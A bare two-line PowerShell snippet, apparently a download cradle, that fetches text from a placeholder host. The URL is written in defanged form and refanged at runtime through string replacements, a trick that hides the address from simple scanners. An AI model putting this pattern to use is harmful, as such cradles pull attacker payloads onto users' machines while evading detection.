$wc = New-Object System.Net.WebClient
$wc.DownloadString('hXXp://a[.]example/p/x.txt'.Replace('XX','tt').Replace('[.]','.'))
